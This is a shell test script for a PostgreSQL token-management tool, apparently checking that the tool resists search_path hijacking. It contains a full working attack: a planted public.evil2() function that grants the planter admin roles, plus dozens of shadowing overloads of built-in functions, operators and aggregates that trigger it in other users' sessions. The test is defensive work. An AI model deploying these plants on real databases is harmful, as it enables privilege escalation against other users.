# A user who may create objects in public (before PostgreSQL 15, everyone) plants there
# overloads that match what a query could name better than pg_catalog's own (an argument
# of type name, an aggregate of bigint, format of two texts, || and = of name and text),
# each reporting through public.evil2() and then doing what the real one does. Then the
# administrators, the owner, the verifier and a user run tokenctl as they would: nothing
# planted may run in their sessions (a sequence counts the calls outside the planter's
# own sessions: a nextval is never rolled back), and the planter gains nothing.
victim_plants_sql() {
  local planter=$1
  cat <<SQL
CREATE FUNCTION public.evil2() RETURNS boolean LANGUAGE plpgsql AS \$evil\$
BEGIN
  IF session_user OPERATOR(pg_catalog.<>) '$planter'::pg_catalog.name THEN
    PERFORM pg_catalog.nextval('watch.foreign_hits'::pg_catalog.regclass);
    BEGIN
      INSERT INTO watch.log (cur, sess, what) VALUES (current_user, session_user, 'public, in tokenctl');
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
      EXECUTE pg_catalog.format('GRANT %I TO %I', 'tokenctl_${REG}_admin', '$planter');
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
      UPDATE tokenctl.users SET role = 'admin' WHERE name OPERATOR(pg_catalog.=) '$planter'::pg_catalog.text;
    EXCEPTION WHEN others THEN NULL;
    END;
  END IF;
  RETURN true;
END
\$evil\$;
GRANT EXECUTE ON FUNCTION public.evil2() TO PUBLIC;
SQL
  local f
  while IFS='@' read -r f body; do
    [ -n "$f" ] || continue
    printf 'CREATE FUNCTION public.%s AS $f$ SELECT CASE WHEN public.evil2() THEN %s END $f$;\n' "$f" "$body"
  done <<'LIST'
lower(name) RETURNS text LANGUAGE sql@pg_catalog.lower($1::pg_catalog.text)
upper(name) RETURNS text LANGUAGE sql@pg_catalog.upper($1::pg_catalog.text)
length(name) RETURNS integer LANGUAGE sql@pg_catalog.length($1::pg_catalog.text)
btrim(name) RETURNS text LANGUAGE sql@pg_catalog.btrim($1::pg_catalog.text)
starts_with(name, text) RETURNS boolean LANGUAGE sql@pg_catalog.starts_with($1::pg_catalog.text, $2)
translate(name, text, text) RETURNS text LANGUAGE sql@pg_catalog.translate($1::pg_catalog.text, $2, $3)
quote_ident(name) RETURNS text LANGUAGE sql@pg_catalog.quote_ident($1::pg_catalog.text)
quote_literal(name) RETURNS text LANGUAGE sql@pg_catalog.quote_literal($1::pg_catalog.text)
format(text, text) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2)
format(text, name) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2)
format(text, text, text) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2, $3)
format(text, bigint) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2)
concat(text, text) RETURNS text LANGUAGE sql@pg_catalog.concat($1, $2)
concat(name, text) RETURNS text LANGUAGE sql@pg_catalog.concat($1, $2)
to_hex(integer) RETURNS text LANGUAGE sql@pg_catalog.to_hex($1)
encode(bytea, name) RETURNS text LANGUAGE sql@pg_catalog.encode($1, $2::pg_catalog.text)
decode(text, name) RETURNS bytea LANGUAGE sql@pg_catalog.decode($1, $2::pg_catalog.text)
to_regrole(name) RETURNS regrole LANGUAGE sql@pg_catalog.to_regrole($1::pg_catalog.text)
pg_has_role(name, text) RETURNS boolean LANGUAGE sql@pg_catalog.pg_has_role($1, $2)
array_position(bigint[], bigint) RETURNS integer LANGUAGE sql@pg_catalog.array_position($1, $2)
array_length(bigint[], integer) RETURNS integer LANGUAGE sql@pg_catalog.array_length($1, $2)
cardinality(bigint[]) RETURNS integer LANGUAGE sql@pg_catalog.cardinality($1)
greatest(bigint, bigint) RETURNS bigint LANGUAGE sql@pg_catalog.int8larger($1, $2)
LIST
  cat <<'SQL'
CREATE FUNCTION public.eq_name_text(name, text) RETURNS boolean LANGUAGE sql AS
  $f$ SELECT public.evil2() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION public.eq_text_name(text, name) RETURNS boolean LANGUAGE sql AS
  $f$ SELECT public.evil2() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION public.eq_name_name(name, name) RETURNS boolean LANGUAGE sql AS
  $f$ SELECT public.evil2() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION public.eq_text_unknown(text, varchar) RETURNS boolean LANGUAGE sql AS
  $f$ SELECT public.evil2() AND $1 OPERATOR(pg_catalog.=) $2::pg_catalog.text $f$;
CREATE FUNCTION public.eq_int8_numeric(bigint, numeric) RETURNS boolean LANGUAGE sql AS
  $f$ SELECT public.evil2() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION public.cat_name_text(name, text) RETURNS text LANGUAGE sql AS
  $f$ SELECT CASE WHEN public.evil2() THEN $1::pg_catalog.text OPERATOR(pg_catalog.||) $2 END $f$;
CREATE FUNCTION public.cat_text_name(text, name) RETURNS text LANGUAGE sql AS
  $f$ SELECT CASE WHEN public.evil2() THEN $1 OPERATOR(pg_catalog.||) $2::pg_catalog.text END $f$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.eq_name_text);
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = name, FUNCTION = public.eq_text_name);
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = name, FUNCTION = public.eq_name_name);
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = varchar, FUNCTION = public.eq_text_unknown);
CREATE OPERATOR public.= (LEFTARG = bigint, RIGHTARG = numeric, FUNCTION = public.eq_int8_numeric);
CREATE OPERATOR public.|| (LEFTARG = name, RIGHTARG = text, FUNCTION = public.cat_name_text);
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = name, FUNCTION = public.cat_text_name);
CREATE FUNCTION public.agg_bigint(bigint[], bigint) RETURNS bigint[] LANGUAGE sql AS
  $f$ SELECT CASE WHEN public.evil2() THEN $1 OPERATOR(pg_catalog.||) $2 END $f$;
CREATE AGGREGATE public.array_agg(bigint) (SFUNC = public.agg_bigint, STYPE = bigint[], INITCOND = '{}');
CREATE FUNCTION public.count_step(bigint, bigint) RETURNS bigint LANGUAGE sql AS
  $f$ SELECT CASE WHEN public.evil2() THEN $1 OPERATOR(pg_catalog.+) 1 END $f$;
CREATE AGGREGATE public.count(bigint) (SFUNC = public.count_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION public.count_text_step(bigint, text) RETURNS bigint LANGUAGE sql AS
  $f$ SELECT CASE WHEN public.evil2() THEN $1 OPERATOR(pg_catalog.+) 1 END $f$;
CREATE AGGREGATE public.count(text) (SFUNC = public.count_text_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION public.agg_text(text, text, text) RETURNS text LANGUAGE sql AS
  $f$ SELECT CASE WHEN public.evil2() THEN pg_catalog.concat_ws($3, $1, $2) END $f$;
CREATE AGGREGATE public.string_agg(text, name) (SFUNC = public.agg_text, STYPE = text);
SQL
}

case_ "tokenctl's own sessions run nothing a user planted in public"
sql "DROP SCHEMA public CASCADE; CREATE SCHEMA public; GRANT ALL ON SCHEMA public TO PUBLIC;
     CREATE SEQUENCE watch.foreign_hits; GRANT USAGE ON SEQUENCE watch.foreign_hits TO PUBLIC;
     DELETE FROM watch.log" >/dev/null
{
  echo "SET client_min_messages = warning;"
  echo "\\set ON_ERROR_ROLLBACK on"
  victim_plants_sql "$L_alice"
} | psql_login "$L_alice" -f - >"$TMP/plant2.out" 2>"$TMP/plant2.err"
OUT=$(head -c 1500 "$TMP/plant2.out") ERR=$(head -c 1500 "$TMP/plant2.err")
nplanted=$(sql "SELECT count(*) FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'public'")
if [ "$nplanted" -ge 30 ]; then pass; else fail "only $nplanted functions planted in public"; fi
# The plants work: in the planter's own session, nothing counts; from another login's
# psql session with the default search path, a count(bigint) reaches evil2().
psql_login "$L_bob" -c "SELECT count(x) FROM (VALUES (1::bigint)) v(x)" >/dev/null 2>&1
if [ "$(sql "SELECT last_value FROM watch.foreign_hits")" -ge 1 ] 2>/dev/null &&
  [ "$(sql "SELECT is_called FROM watch.foreign_hits")" = t ]; then pass; else
  fail "a planted count(bigint) did not run in bob's psql session: the test plants nothing that works"
fi
sql "SELECT setval('watch.foreign_hits', 1, false); DELETE FROM watch.log" >/dev/null
alice_before=$(sql "SELECT string_agg(g.rolname, ' ' ORDER BY g.rolname) FROM pg_auth_members a
  JOIN pg_roles g ON g.oid = a.roleid JOIN pg_roles m ON m.oid = a.member WHERE m.rolname = '$L_alice'")
rm -f "$TMP"/v_*.json
victim_runs=(
  "$L_adm|list --all" "$L_adm|app list" "$L_adm|audit" "$L_adm|user list" "$L_adm|whoami" "$L_adm|check"
  "$L_adm|add-app -q --redirect-uri $URI" "$L_adm|add-app -q --redirect-uri $URI --for $L_bob --name victim_$P"
  "$L_adm|revoke $TID_ADM --yes" "$L_adm|user set-role $L_bob user"
  "$L_own|check" "$L_own|user list" "$L_own|audit --format json" "$L_own|rekey --yes" "$L_own|whoami"
  "$L_bob|list --all" "$L_bob|app list" "$L_bob|download $TID_BOB -o $TMP/v_bob.json"
  "$L_bob|refresh $TID_BOB -o $TMP/v_bob2.json" "$L_bob|add-app -q --redirect-uri $URI"
  "$L_gw|whoami" "$L_gw|check"
)
failed_runs=""
for entry in "${victim_runs[@]}"; do
  login=${entry%%|*}
  read -r -a args <<<"${entry#*|}"
  PGUSER=$login timeout 30 "$TOKENCTL_BIN" "${args[@]}" >"$TMP/vout" 2>"$TMP/verr" </dev/null ||
    failed_runs+="[${login#"${P}_"}: ${args[*]}: $(head -c 200 "$TMP/verr" | tr '\n' ' ')] "
done
if [ -f "$TMP/v_bob2.json" ]; then
  access_of "$TMP/v_bob2.json" >"$TMP/v.access"
  PGUSER=$L_gw timeout 30 "$TOKENCTL_BIN" verify <"$TMP/v.access" >"$TMP/vout" 2>"$TMP/verr" ||
    failed_runs+="[gw: verify: $(head -c 200 "$TMP/verr" | tr '\n' ' ')] "
fi
OUT='' ERR=$failed_runs
if [ -z "$failed_runs" ]; then pass; else fail "tokenctl commands failed with the plants in public"; fi
hits=$(sql "SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM watch.foreign_hits")
logged=$(sql "SELECT sess || ' as ' || cur FROM watch.log GROUP BY 1")
OUT='' ERR=$logged
if [ "$hits" = 0 ]; then pass; else fail "objects alice planted in public ran $hits times in tokenctl's sessions of other logins"; fi
alice_after=$(sql "SELECT string_agg(g.rolname, ' ' ORDER BY g.rolname) FROM pg_auth_members a
  JOIN pg_roles g ON g.oid = a.roleid JOIN pg_roles m ON m.oid = a.member WHERE m.rolname = '$L_alice'")
check test "$alice_after" = "$alice_before"
check test "$(sql "SELECT role FROM tokenctl.users WHERE name = '$L_alice'")" = user

# --- And tokenctl still works afterwards ---------------------------------------------------
case_ "tokenctl works after the attacks"
printf '%s' "$(access_of "$TMP/alice.json")" >"$TMP/alice.access"
PGUSER=$L_gw "$TOKENCTL_BIN" verify <"$TMP/alice.access" >"$TMP/v.out" 2>"$TMP/v.err"
RC=$? OUT=$(cat "$TMP/v.out") ERR=$(cat "$TMP/v.err")
expect_rc 0
run_as "$L_alice" download "$TID_ALICE" -o "$TMP/alice2.json"
expect_rc 0
finish
